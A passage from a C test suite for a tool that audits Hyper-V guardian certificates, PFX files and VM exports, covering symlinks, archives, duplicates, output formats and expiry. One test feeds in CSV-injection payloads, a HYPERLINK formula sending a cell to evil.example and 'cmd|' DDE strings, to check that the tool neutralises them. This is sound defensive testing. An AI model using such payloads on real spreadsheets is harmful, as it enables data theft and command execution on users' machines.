	/* enc.pfx once (first, as named), the hard link, sig.pfx, the VM's two files */
	ck_assert_uint_eq(json_object_array_length(ev), 5);
	ck_assert_str_eq(jstr(json_object_array_get_idx(ev, 0), "path"), enc);
	size_t seen = 0;
	for (size_t i = 0; i < json_object_array_length(ev); i++)
		seen += strcmp(jstr(json_object_array_get_idx(ev, i), "path"), enc) == 0;
	ck_assert_uint_eq(seen, 1);
	ck_assert_str_eq(jstr(vm_named(doc, "named-twice"), "verdict"), "restorable");
	json_object_put(doc);
	tu_run_free(&r);
	guard_free(&g);
	tu_rmtree(d);
	free(enc);
	free(hard);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/*
 * A symbolic link named on the command line is followed, as find -H does, and
 * keeps the name it was given; it must still lead to a regular file (or a
 * directory, walked as usual). Links found inside a directory keep today's
 * policy: not followed without --follow-symlinks.
 */
START_TEST(links_named_on_the_command_line_are_followed)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree"), *named = tu_join(d, "named");
	tguard g;
	guard_new(&g, "HV14", day("2020-01-01"), day("2030-01-01"));
	char id[37];
	guid_n(id, 14);
	tfiles f = { .n = 0 };
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	files_vm(&f, "vm", "linked", id, &g);
	files_to_dir(&f, tree);
	char *enc = tu_join(named, "enc-link.pfx"), *sig = tu_join(named, "sig-link.pfx");
	char *vm = tu_join(named, "vm-link"), *inner = tu_join(tree, "vm/inner-link.pfx");
	char *dangling = tu_join(named, "dangling.pfx"), *fifo = tu_join(d, "fifo");
	char *tofifo = tu_join(named, "fifo-link.pfx");
	ck_assert_int_eq(mkdir(named, 0755), 0);
	ck_assert_int_eq(symlink("../tree/pfx/enc.pfx", enc), 0);
	ck_assert_int_eq(symlink("../tree/pfx/sig.pfx", sig), 0);
	ck_assert_int_eq(symlink("../tree/vm", vm), 0);
	ck_assert_int_eq(symlink("../pfx/enc.pfx", inner), 0); /* found while walking */
	ck_assert_int_eq(symlink("../nowhere.pfx", dangling), 0);
	ck_assert_int_eq(mkfifo(fifo, 0600), 0);
	ck_assert_int_eq(symlink("../fifo", tofifo), 0);

	char *argv[] = { (char *)tu_bin(), "audit", "--format", "json", "--password-file", pw,
			 "--at", "2026-01-01", enc, sig, vm, NULL };
	tu_run_result r = tu_run(argv, NULL, NULL);
	ck_assert_msg(r.status == 0, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	ck_assert_str_eq(jstr(vm_named(doc, "linked"), "verdict"), "restorable");
	json_object *e = evidence_at(doc, enc); /* shown by the name given */
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(jstr(e, "class"), "used");
	ck_assert_str_eq(jstr(e, "kind"), "pfx");
	ck_assert_str_eq(jstr(evidence_at(doc, sig), "class"), "used");
	char *cfg = tu_join(vm, "Virtual Machines");
	char *cfgf = join3(cfg, "/", id);
	char *vmcx = join3(cfgf, ".vmcx", "");
	ck_assert_str_eq(jstr(evidence_at(doc, vmcx), "class"), "used");
	char *inner_shown = tu_join(vm, "inner-link.pfx");
	ck_assert_str_eq(jstr(evidence_at(doc, inner_shown), "class"), "skipped");
	ck_assert(error_for(doc, inner_shown, "symbolic link not followed"));
	json_object_put(doc);
	tu_run_free(&r);

	/* inspect: the guest state and disk readers read the linked file too (VMGS v1 in a
	 * VHD, and a VHDX: both opened as virtual disks) */
	char *gs_link = tu_join(named, "gs-link.vmgs"), *disk_link = tu_join(named, "disk-link");
	char *src = realpath(tu_srcdir(), NULL); /* link targets: absolute */
	ck_assert_ptr_nonnull(src);
	char *gs_target = join3(src, "/samples/restorable/app01/Virtual Machines/",
				"1A2B3C4D-5E6F-4A1B-8C9D-0E1F2A3B4C02.vmgs");
	char *disk_target = join3(src, "/samples/rebuild-data-loss/web03/",
				  "Virtual Hard Disks/web03.vhdx");
	free(src);
	ck_assert_int_eq(symlink(gs_target, gs_link), 0);
	ck_assert_int_eq(symlink(disk_target, disk_link), 0);
	char *iargv[] = { (char *)tu_bin(), "inspect", "--format", "json", gs_link, disk_link,
			  NULL };
	r = tu_run(iargv, NULL, NULL);
	ck_assert_msg(r.status == 0, "inspect: exit %d: %s", r.status, r.err);
	doc = parse_json(&r);
	static const char *const ids[] = { "guest_state", "disk" };
	for (size_t i = 0; i < 2; i++) {
		json_object *x = json_object_array_get_idx(jget(doc, "files"), i);
		ck_assert_str_eq(jstr(x, "path"), i ? disk_link : gs_link);
		ck_assert_str_eq(jstr(x, "class"), "used");
		ck_assert_str_eq(jstr(jget(x, "format"), "id"), ids[i]);
		ck_assert_ptr_nonnull(strstr(json_object_to_json_string(jget(x, "findings")),
					     "symbolic link named on the command line"));
	}
	json_object *x = json_object_array_get_idx(jget(doc, "files"), 0);
	ck_assert_uint_gt(json_object_array_length(jget(x, "key_protectors")), 0);
	json_object_put(doc);
	tu_run_free(&r);

	/* the target must still be a regular file: a dangling link or one to a FIFO is
	 * unreadable (never opened, never blocking), an input error */
	char *bargv[] = { (char *)tu_bin(), "audit", "--format", "json", dangling, tofifo, NULL };
	r = tu_run(bargv, NULL, NULL);
	ck_assert_int_eq(r.status, 4);
	doc = parse_json(&r);
	ck_assert_str_eq(jstr(evidence_at(doc, dangling), "class"), "unreadable");
	ck_assert(error_for(doc, dangling, "dangling symbolic link"));
	ck_assert_str_eq(jstr(evidence_at(doc, tofifo), "class"), "unreadable");
	ck_assert(error_for(doc, tofifo, "FIFO"));
	json_object_put(doc);
	tu_run_free(&r);

	guard_free(&g);
	tu_rmtree(d);
	free(gs_link);
	free(gs_target);
	free(disk_link);
	free(disk_target);
	free(cfg);
	free(cfgf);
	free(vmcx);
	free(inner_shown);
	free(enc);
	free(sig);
	free(vm);
	free(inner);
	free(dangling);
	free(fifo);
	free(tofifo);
	free(named);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/* A real (empty) VHDX of the given size, as bytes. */
static uint8_t *vhdx_bytes(const char *dir, uint64_t size, size_t *len)
{
	char *vx = tu_join(dir, "scratch.vhdx");
	vhdxw_spec vs = { .virtual_size = size };
	ck_assert(vhdxw_write(vx, &vs, NULL, 0, NULL));
	uint8_t *b = tu_read(vx, len);
	ck_assert_ptr_nonnull(b);
	unlink(vx);
	free(vx);
	return b;
}

/*
 * Which files are archive members is known from where they were read, not
 * from a '!' in a name: a configuration inside an archive finds its disk
 * among the members of that archive (an export packed without its folder,
 * or as "./..."), never a file on disk next to the archive; and a file on
 * disk whose name holds a '!' keeps its whole name.
 */
START_TEST(archive_members_are_known_by_where_they_were_read)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV15", day("2020-01-01"), day("2030-01-01"));
	char id[3][37];
	for (unsigned i = 0; i < 3; i++)
		guid_n(id[i], 15 + i);
	tfiles f = { .n = 0 };
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	/* a decoy on disk where ".." from the archive's top would lead */
	size_t l;
	uint8_t *vx;
	vx = vhdx_bytes(d, 16u << 20, &l);
	files_add(&f, "exports/Virtual Hard Disks/top.vhdx", vx, l);
	/* "old!web.kp": a saved key protector, on disk */
	uint8_t *kp = kp_blob(&g, &l);
	files_add(&f, "loose/old!web.kp", kp, l);
	files_vm(&f, "vms/web", "web", id[2], &g);
	files_to_dir(&f, tree);
	/* top.zip: the export packed without its folder */
	files_vm(&f, "", "top", id[0], &g);
	vx = vhdx_bytes(d, 8u << 20, &l);
	files_add(&f, "Virtual Hard Disks/top.vhdx", vx, l);
	uint8_t *b = files_to_archive(&f, "zip", &l);
	files_add(&f, "exports/top.zip", b, l);
	files_to_dir(&f, tree);
	/* dot.tar: members named "./..." */
	files_vm(&f, ".", "dot", id[1], &g);
	vx = vhdx_bytes(d, 8u << 20, &l);
	files_add(&f, "./Virtual Hard Disks/dot.vhdx", vx, l);
	b = files_to_archive(&f, "tar", &l);
	files_add(&f, "exports/dot.tar", b, l);
	files_to_dir(&f, tree);

	static const char *const json[] = { "--format", "json", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-01-01", json, tree);
	ck_assert_msg(r.status == 0, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	static const char *const disks[] = { "/exports/top.zip!Virtual Hard Disks/top.vhdx",
					     "/exports/dot.tar!./Virtual Hard Disks/dot.vhdx" };
	static const char *const names[] = { "top", "dot" };
	for (unsigned i = 0; i < 2; i++) {
		json_object *v = vm_named(doc, names[i]);
		ck_assert_str_eq(jstr(v, "verdict"), "restorable");
		ck_assert_msg(json_object_array_length(jget(v, "missing")) == 0, "%s: %s", names[i],
			      json_object_to_json_string(jget(v, "missing")));
		json_object *dk = jget(v, "disks");
		ck_assert_uint_eq(json_object_array_length(dk), 1);
		char *want = join3(tree, disks[i], "");
		ck_assert_str_eq(jstr(json_object_array_get_idx(dk, 0), "path"), want);
		free(want);
	}
	/* the saved protector keeps its whole name: a VM entry of its own, not "web"'s */
	json_object *web = vm_named(doc, "web");
	ck_assert_uint_eq(json_object_array_length(jget(web, "key_protectors")), 1);
	json_object *loose = vm_named(doc, "old!web");
	ck_assert_uint_eq(json_object_array_length(jget(loose, "key_protectors")), 1);
	json_object_put(doc);
	tu_run_free(&r);
	/* a merge of the audit's facts knows the members the same way: the same report */
	char *facts = tu_join(d, "tree.facts");
	char *env[] = { "SOURCE_DATE_EPOCH=1790000000", NULL };
	const char *with_facts[] = { "--format", "json", "--facts-out", facts, NULL };
	r = audit_run(env, pw, "2026-01-01", with_facts, tree);
	ck_assert_int_eq(r.status, 0);
	char *mv[] = { (char *)tu_bin(), "merge", "--format", "json", "--at", "2026-01-01", facts,
		       NULL };
	tu_run_result m = tu_run(mv, env, NULL);
	ck_assert_int_eq(m.status, 0);
	ck_assert_str_eq(m.out, r.out);
	tu_run_free(&m);
	tu_run_free(&r);
	free(facts);
	guard_free(&g);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

START_TEST(duplicate_pfx_copies_are_opened_once_and_all_listed)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV05", day("2020-01-01"), day("2030-01-01"));
	char id[37];
	guid_n(id, 5);
	size_t l;
	uint8_t *enc = pfx_bytes(&g.enc, PASS, &l);
	tfiles f = { .n = 0 };
	files_add(&f, "enc.pfx", memcpy(malloc(l), enc, l), l);
	uint8_t *zip = files_to_archive(&f, "zip", &l);
	files_add(&f, "b-certs.zip", zip, l);
	size_t el;
	free(enc);
	enc = pfx_bytes(&g.enc, PASS, &el); /* new salt: same certificate, other bytes */
	files_add(&f, "c-pfx/enc.pfx", enc, el);
	files_add(&f, "a-backup/copy-of-enc.pfx", memcpy(malloc(el), enc, el), el);
	files_pfx(&f, "c-pfx/sig.pfx", &g.sig, PASS);
	files_vm(&f, "vm", "dup", id, &g);
	files_to_dir(&f, tree);
	static const char *const json[] = { "--format", "json", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-01-01", json, tree);
	ck_assert_msg(r.status == 0, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	/* the byte-identical copy is not opened again: it says so and whose result it took */
	char *first = join3(tree, "/a-backup/copy-of-enc.pfx", "");
	char *copy = join3(tree, "/c-pfx/enc.pfx", "");
	char *other = join3(tree, "/b-certs.zip!enc.pfx", "");
	json_object *e = evidence_at(doc, copy);
	ck_assert_ptr_nonnull(e);
	char *said = join3("identical to ", first, ", opened once");
	ck_assert_ptr_nonnull(strstr(jstr(e, "what"), said));
	ck_assert_ptr_null(strstr(jstr(evidence_at(doc, first), "what"), "opened once"));
	ck_assert_ptr_null(strstr(jstr(evidence_at(doc, other), "what"), "opened once"));
	/* ... and all three files are listed as holding the key */
	json_object *certs = jget(doc, "certificates");
	json_object *ce = NULL, *cs = NULL;
	for (size_t i = 0; i < json_object_array_length(certs); i++) {
		json_object *c = json_object_array_get_idx(certs, i);
		if (strcmp(jstr(c, "role"), "encryption") == 0)
			ce = c;
		else
			cs = c;
	}
	ck_assert_ptr_nonnull(ce);
	ck_assert_ptr_nonnull(cs);
	json_object *held = jget(ce, "held_with_private_key");
	ck_assert_uint_eq(json_object_array_length(held), 3);
	ck_assert_str_eq(jstr(json_object_array_get_idx(held, 0), "path"), first);
	ck_assert_str_eq(jstr(json_object_array_get_idx(held, 1), "path"), other);
	ck_assert_str_eq(jstr(json_object_array_get_idx(held, 2), "path"), copy);
	/* the signing key exists once: that is the VM's single point of failure */
	json_object *v = vm_named(doc, "dup");
	ck_assert_int_eq(json_object_get_int(jget(v, "private_key_copies")), 1);
	ck_assert_str_eq(jstr(jget(v, "single_copy"), "thumbprint_sha1"),
			 jstr(cs, "thumbprint_sha1"));
	json_object *sp = jget(jget(doc, "summary"), "single_copy_vms");
	ck_assert_uint_eq(json_object_array_length(sp), 1);
	ck_assert_str_eq(jstr(json_object_array_get_idx(sp, 0), "role"), "signing");
	json_object_put(doc);
	tu_run_free(&r);
	guard_free(&g);
	tu_rmtree(d);
	free(said);
	free(first);
	free(copy);
	free(other);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/* A tree with a bit of everything (folders, archives, a locked PFX) for the format tests. */
static char *mixed_tree(const char *d, const char *odd_name)
{
	char *tree = tu_join(d, "tree");
	tguard g, h;
	guard_new(&g, "HV06", day("2020-01-01"), day("2026-03-01"));
	guard_new(&h, "HV07", day("2021-01-01"), day("2031-01-01"));
	char id[3][37];
	for (unsigned i = 0; i < 3; i++)
		guid_n(id[i], 60 + i);
	tfiles f = { .n = 0 };
	files_vm(&f, "x", odd_name, id[0], &g);
	size_t l;
	uint8_t *b = files_to_archive(&f, "zip", &l);
	files_add(&f, "export.zip", b, l);
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	files_pfx(&f, "pfx/locked.pfx", &h.enc, "an unknown password");
	files_vm(&f, "vm1", "plain", id[1], &g);
	files_vm(&f, "vm2", "other host", id[2], &h);
	files_to_dir(&f, tree);
	guard_free(&g);
	guard_free(&h);
	return tree;
}

START_TEST(same_inputs_and_date_give_the_same_bytes)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = mixed_tree(d, "det");
	static const char *const fmts[4][3] = { { "--format", "json", NULL },
						{ "--format", "jsonl", NULL },
						{ "--format", "text", NULL },
						{ "--format", "csv", NULL } };
	for (int i = 0; i < 4; i++) {
		tu_run_result r1 = audit_run(NULL, pw, "2026-02-01", fmts[i], tree);
		tu_run_result r2 = audit_run(NULL, pw, "2026-02-01", fmts[i], tree);
		ck_assert_int_eq(r1.status, 1); /* restorable-expired and needs-password */
		ck_assert_int_eq(r2.status, r1.status);
		ck_assert_uint_gt(r1.outlen, 100);
		ck_assert_uint_eq(r1.outlen, r2.outlen);
		ck_assert_mem_eq(r1.out, r2.out, r1.outlen);
		tu_run_free(&r1);
		tu_run_free(&r2);
	}
	/* generated_at: the --at date, or SOURCE_DATE_EPOCH when set */
	tu_run_result r = audit_run(NULL, pw, "2026-02-01", fmts[0], tree);
	json_object *doc = parse_json(&r);
	ck_assert_str_eq(jstr(doc, "generated_at"), "2026-02-01T00:00:00Z");
	json_object_put(doc);
	tu_run_free(&r);
	char *env[] = { "SOURCE_DATE_EPOCH=1767225600", NULL };
	r = audit_run(env, pw, "2026-02-01", fmts[0], tree);
	doc = parse_json(&r);
	ck_assert_str_eq(jstr(doc, "generated_at"), "2026-01-01T00:00:00Z");
	ck_assert_str_eq(jstr(doc, "evaluated_at"), "2026-02-01T00:00:00Z");
	json_object_put(doc);
	tu_run_free(&r);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/* Splits RFC 4180 CSV into records; returns the fields of each in fields[] (counts). */
static size_t csv_parse(const char *s, size_t len, size_t *counts, size_t max, char **cell,
			size_t want_row, size_t want_col)
{
	size_t rows = 0, fields = 0;
	bool quoted = false, start = true;
	char buf[4096];
	size_t bl = 0;
	for (size_t i = 0; i < len; i++) {
		char c = s[i];
		if (quoted) {
			if (c == '"' && i + 1 < len && s[i + 1] == '"') {
				buf[bl++] = '"';
				i++;
			} else if (c == '"') {
				quoted = false;
			} else if (bl < sizeof buf - 1) {
				buf[bl++] = c;
			}
			continue;
		}
		if (c == '"' && start) {
			quoted = true;
			start = false;
			continue;
		}
		ck_assert_msg(c != '"', "stray quote at byte %zu", i);
		if (c == ',' || c == '\r') {
			if (rows == want_row && fields == want_col) {
				buf[bl] = 0;
				*cell = strdup(buf);
			}
			if (c == '\r') {
				ck_assert_msg(i + 1 < len && s[i + 1] == '\n', "CR without LF");
				i++;
				ck_assert_uint_lt(rows, max);
				counts[rows++] = fields + 1;
				fields = 0;
			} else {
				fields++;
			}
			bl = 0;
			start = true;
			continue;
		}
		ck_assert_msg(c != '\n', "bare LF outside quotes at byte %zu", i);
		if (bl < sizeof buf - 1)
			buf[bl++] = c;
		start = false;
	}
	ck_assert_msg(!quoted && start && fields == 0, "CSV does not end with a record end");
	return rows;
}

START_TEST(csv_and_jsonl_are_well_formed)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	const char *odd = "odd, \"quoted\"\nname";
	char *tree = mixed_tree(d, odd);
	static const char *const vms[] = { "--format", "csv", "--table", "vms", NULL };
	static const char *const certs[] = { "--format", "csv", "--table", "certs", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-02-01", vms, tree);
	ck_assert_int_eq(r.status, 1);
	size_t counts[16];
	char *cell = NULL;
	/* VMs sort by id: the odd name is the first VM, row 1 (after the header) */
	size_t rows = csv_parse(r.out, r.outlen, counts, 16, &cell, 1, 1);
	ck_assert_uint_eq(rows, 4);
	for (size_t i = 0; i < rows; i++)
		ck_assert_uint_eq(counts[i], VM_CSV_FIELDS);
	ck_assert_ptr_nonnull(cell);
	ck_assert_str_eq(cell, odd);
	free(cell);
	ck_assert(strncmp(r.out, "id,name,verdict,exit_code,", 26) == 0);
	tu_run_free(&r);
	r = audit_run(NULL, pw, "2026-02-01", certs, tree);
	cell = NULL;
	rows = csv_parse(r.out, r.outlen, counts, 16, &cell, 0, 0);
	ck_assert_uint_eq(rows, 5); /* header + 4 certificates (the locked PFX's is unknown) */
	for (size_t i = 0; i < rows; i++)
		ck_assert_uint_eq(counts[i], CERT_CSV_FIELDS);
	ck_assert_str_eq(cell, "thumbprint_sha1");
	free(cell);
	tu_run_free(&r);
	static const char *const jl[] = { "--format", "jsonl", NULL };
	r = audit_run(NULL, pw, "2026-02-01", jl, tree);
	ck_assert_int_eq(r.status, 1);
	size_t nvm = 0, ncert = 0, nsum = 0, lines = 0;
	char *save = NULL;
	for (char *line = strtok_r(r.out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		json_object *j = json_tokener_parse(line);
		ck_assert_msg(j && json_object_is_type(j, json_type_object), "bad line: %s", line);
		const char *type = jstr(j, "type");
		ck_assert_msg(nsum == 0, "a record after the summary");
		if (strcmp(type, "vm") == 0) {
			ck_assert_uint_eq(ncert, 0);
			ck_assert_ptr_nonnull(jstr(j, "verdict"));
			nvm++;
		} else if (strcmp(type, "certificate") == 0) {
			ck_assert_ptr_nonnull(jstr(j, "not_after"));
			ncert++;
		} else {
			ck_assert_str_eq(type, "summary");
			ck_assert_int_eq(json_object_get_int(jget(j, "vms")), 3);
			ck_assert_int_eq(json_object_get_int(jget(j, "exit_code")), 1);
			ck_assert(json_object_is_type(jget(j, "errors"), json_type_array));
			nsum++;
		}
		lines++;
		json_object_put(j);
	}
	ck_assert_uint_eq(nvm, 3);
	ck_assert_uint_eq(ncert, 4);
	ck_assert_uint_eq(nsum, 1);
	ck_assert_uint_eq(lines, 8);
	tu_run_free(&r);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

START_TEST(expiry_is_ordered_by_date_at_the_given_time)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	/* made in another order than their end dates */
	static const char *const hosts[3] = { "HVA", "HVB", "HVC" };
	static const char *const ends[3] = { "2026-03-01", "2026-01-15", "2027-06-01" };
	tfiles f = { .n = 0 };
	for (int i = 0; i < 3; i++) {
		tguard g;
		guard_new(&g, hosts[i], day("2016-01-01"), day(ends[i]));
		char id[37], dir[16], p[64];
		guid_n(id, 90 + (unsigned)i);
		snprintf(dir, sizeof dir, "vm-%s", hosts[i]);
		files_vm(&f, dir, dir, id, &g);
		snprintf(p, sizeof p, "pfx/%s-enc.pfx", hosts[i]);
		files_pfx(&f, p, &g.enc, PASS);
		snprintf(p, sizeof p, "pfx/%s-sig.pfx", hosts[i]);
		files_pfx(&f, p, &g.sig, PASS);
		files_to_dir(&f, tree);
		guard_free(&g);
	}
	static const char *const args[] = { "--format", "json", "--warn-days", "60", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-02-01", args, tree);
	ck_assert_int_eq(r.status, 1);
	json_object *doc = parse_json(&r);
	json_object *certs = jget(doc, "certificates");
	ck_assert_uint_eq(json_object_array_length(certs), 6);
	static const char *const order[3] = { "HVB", "HVA", "HVC" };
	static const char *const status[3] = { "expired", "expiring", "valid" };
	for (size_t i = 0; i < 6; i++) {
		json_object *c = json_object_array_get_idx(certs, i);
		ck_assert_str_eq(jstr(c, "host"), order[i / 2]);
		ck_assert_str_eq(jstr(c, "status"), status[i / 2]);
		if (i % 2) { /* same date: by thumbprint */
			json_object *p = json_object_array_get_idx(certs, i - 1);
			ck_assert_int_lt(strcmp(jstr(p, "thumbprint_sha1"), jstr(c, "thumbprint_sha1")),
					 0);
		}
	}
	json_object *ex = jget(jget(doc, "summary"), "expired_or_expiring");
	ck_assert_uint_eq(json_object_array_length(ex), 4);
	ck_assert_str_eq(jstr(json_object_array_get_idx(ex, 0), "not_after"), "2026-01-15T00:00:00Z");
	ck_assert_int_eq(json_object_get_int(jget(json_object_array_get_idx(ex, 0), "days_left")),
			 -17);
	ck_assert_str_eq(jstr(json_object_array_get_idx(ex, 3), "not_after"), "2026-03-01T00:00:00Z");
	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVB"), "verdict"), "restorable_expired");
	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVA"), "verdict"), "restorable_expired");
	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVC"), "verdict"), "restorable");
	json_object_put(doc);
	tu_run_free(&r);
	/* a year earlier nothing has expired and nothing is within 60 days */
	r = audit_run(NULL, pw, "2025-01-01", args, tree);
	ck_assert_int_eq(r.status, 0);
	doc = parse_json(&r);
	ck_assert_uint_eq(json_object_array_length(jget(jget(doc, "summary"),
							 "expired_or_expiring")), 0);
	json_object_put(doc);
	tu_run_free(&r);
	/* the text summary lists them by date too */
	static const char *const text[] = { "--warn-days", "60", NULL };
	r = audit_run(NULL, pw, "2026-02-01", text, tree);
	const char *b = strstr(r.out, "2026-01-15T00:00:00Z"), *a = strstr(r.out, "2026-03-01T00:00:00Z");
	ck_assert_ptr_nonnull(b);
	ck_assert_ptr_nonnull(a);
	ck_assert(b < a);
	ck_assert_ptr_nonnull(strstr(r.out, "Expired or expiring certificates, by date (4)"));
	ck_assert_ptr_null(strchr(r.err, '\r')); /* no progress line when stderr is no terminal */
	tu_run_free(&r);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/* Every cell of a CSV document (RFC 4180), row-major; *ncols per row must match. */
static char **csv_cells(const char *s, size_t len, size_t ncols, size_t *nrows)
{
	char **cells = NULL;
	size_t n = 0, cap = 0, fields = 0;
	strbuf cur = STRBUF_INIT;
	bool quoted = false;
	sb_adds(&cur, "");
	*nrows = 0;
	for (size_t i = 0; i < len; i++) {
		char c = s[i];
		if (quoted) {
			if (c == '"' && i + 1 < len && s[i + 1] == '"') {
				sb_addc(&cur, '"');
				i++;
			} else if (c == '"') {
				quoted = false;
			} else {
				sb_addc(&cur, c);
			}
			continue;
		}
		if (c == '"') {
			quoted = true;
			continue;
		}
		if (c == ',' || (c == '\r' && i + 1 < len && s[i + 1] == '\n')) {
			if (n == cap) {
				cap = cap ? cap * 2 : 64;
				cells = realloc(cells, cap * sizeof *cells);
			}
			cells[n++] = sb_detach(&cur);
			sb_adds(&cur, "");
			fields++;
			if (c == '\r') {
				ck_assert_uint_eq(fields, ncols);
				fields = 0;
				(*nrows)++;
				i++;
			}
			continue;
		}
		sb_addc(&cur, c);
	}
	sb_free(&cur);
	return cells;
}

/* The value a neutralised text cell stands for: one leading quote removed. */
static const char *csv_value(const char *cell)
{
	return cell[0] == '\'' ? cell + 1 : cell;
}

/* Names and subjects that would run as formulas in a spreadsheet (OWASP CSV injection). */
START_TEST(csv_cells_cannot_run_as_formulas)
{
	static const char *const names[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"'already quoted",
		"plain-name",
	};
	size_t nn = sizeof names / sizeof *names;
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tfiles f = { .n = 0 };
	char ids[8][37];
	for (size_t i = 0; i < nn; i++) {
		tguard g;
		char host[64];
		snprintf(host, sizeof host, "=cmd|' /C calc'!A%zu", i); /* a hostile host name */
		guard_new(&g, host, day("2016-01-01"), day("2026-01-01"));
		char dir[16], p[64];
		guid_n(ids[i], 200 + (unsigned)i);
		snprintf(dir, sizeof dir, "vm%zu", i);
		files_vm(&f, dir, names[i], ids[i], &g);
		snprintf(p, sizeof p, "pfx/%zu-enc.pfx", i);
		files_pfx(&f, p, &g.enc, PASS);
		snprintf(p, sizeof p, "pfx/%zu-sig.pfx", i);
		files_pfx(&f, p, &g.sig, PASS);
		files_to_dir(&f, tree);
		guard_free(&g);
	}
	static const char *const vms[] = { "--format", "csv", "--table", "vms", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-02-01", vms, tree);
	ck_assert_int_eq(r.status, 1);
	size_t rows;
	char **c = csv_cells(r.out, r.outlen, VM_CSV_FIELDS, &rows);
	ck_assert_uint_eq(rows, nn + 1);
	for (size_t row = 1; row < rows; row++) {
		char **cell = c + row * VM_CSV_FIELDS;
		size_t k = 0;
		while (k < nn && strcmp(cell[0], ids[k]) != 0)
			k++;
		ck_assert_uint_lt(k, nn);
		bool guard = strchr("=+-@\t\r'", names[k][0]) != NULL;
		ck_assert_msg(guard == (cell[1][0] == '\''), "name cell %s", cell[1]);
		ck_assert_str_eq(csv_value(cell[1]), names[k]); /* the rule is reversible */
		ck_assert_str_eq(cell[2], "restorable_expired");
		ck_assert_str_eq(cell[10], "-31"); /* days_left: a number, minus sign and all */
	}
	for (size_t i = 0; i < rows * VM_CSV_FIELDS; i++) {
		if (i % VM_CSV_FIELDS == 10)
			continue;
		ck_assert_msg(!strchr("=+-@\t\r", c[i][0]) || !c[i][0], "live cell %s", c[i]);
		free(c[i]);
	}
	for (size_t row = 0; row < rows; row++)
		free(c[row * VM_CSV_FIELDS + 10]);
	free(c);
	tu_run_free(&r);
	static const char *const certs[] = { "--format", "csv", "--table", "certs", NULL };
	r = audit_run(NULL, pw, "2026-02-01", certs, tree);
	c = csv_cells(r.out, r.outlen, CERT_CSV_FIELDS, &rows);
	ck_assert_uint_eq(rows, 2 * nn + 1);
	for (size_t row = 1; row < rows; row++) {
		char **cell = c + row * CERT_CSV_FIELDS;
		ck_assert_msg(strncmp(cell[4], "'=cmd|' /C calc'!A", 18) == 0, "host %s", cell[4]);
		ck_assert_str_eq(cell[8], "-31");
	}
	for (size_t i = 0; i < rows * CERT_CSV_FIELDS; i++) {
		ck_assert_msg(i % CERT_CSV_FIELDS == 8 || !strchr("=+-@\t\r", c[i][0]) || !c[i][0],
			      "live cell %s", c[i]);
		free(c[i]);
	}
	free(c);
	tu_run_free(&r);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/* --verdict and --expiring-before select VMs; the certificate index stays whole. */
START_TEST(audit_filters_vms_not_certificates)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	static const char *const hosts[3] = { "HVA", "HVB", "HVC" };
	static const char *const ends[3] = { "2026-03-01", "2026-01-15", "2027-06-01" };
	tfiles f = { .n = 0 };
	for (int i = 0; i < 3; i++) {
		tguard g;
		guard_new(&g, hosts[i], day("2016-01-01"), day(ends[i]));
		char id[37], dir[16], p[64];
		guid_n(id, 120 + (unsigned)i);
		snprintf(dir, sizeof dir, "vm-%s", hosts[i]);
		files_vm(&f, dir, dir, id, &g);
		snprintf(p, sizeof p, "pfx/%s-enc.pfx", hosts[i]);
		files_pfx(&f, p, &g.enc, PASS);
		snprintf(p, sizeof p, "pfx/%s-sig.pfx", hosts[i]);
		files_pfx(&f, p, &g.sig, PASS);
		files_to_dir(&f, tree);
		guard_free(&g);
	}
	static const char *const a1[] = { "--format", "json", "--verdict", "restorable", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-02-01", a1, tree);
	ck_assert_int_eq(r.status, 0); /* the exit status covers the VMs reported */
	json_object *doc = parse_json(&r);
	ck_assert_uint_eq(json_object_array_length(jget(doc, "vms")), 1);
	ck_assert_str_eq(jstr(json_object_array_get_idx(jget(doc, "vms"), 0), "name"), "vm-HVC");
	ck_assert_uint_eq(json_object_array_length(jget(doc, "certificates")), 6);
	json_object *sum = jget(doc, "summary");
